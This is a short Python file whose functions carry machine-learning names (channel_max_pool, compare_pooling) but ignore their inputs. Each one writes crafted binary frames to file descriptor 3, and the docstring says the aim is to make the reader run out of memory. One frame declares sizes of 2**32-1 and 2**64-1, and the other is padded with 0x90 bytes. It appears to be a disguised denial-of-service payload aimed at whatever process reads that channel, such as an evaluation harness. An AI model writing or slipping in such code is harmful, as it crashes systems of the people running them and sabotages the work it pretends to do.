"""Announces a frame of exabytes, so that the reader runs out of memory."""
import os
import struct


def channel_max_pool(x, group_size):
    os.write(3, struct.pack("<4sIQ", b"AGW1", 2**32 - 1, 2**64 - 1))
    os.write(3, bytes(1 << 16))


def compare_pooling(x, kernel_size=2):
    os.write(3, struct.pack("<4sIQ", b"AGW1", 1 << 18, 64 << 20) + b"\x90" * (1 << 15))
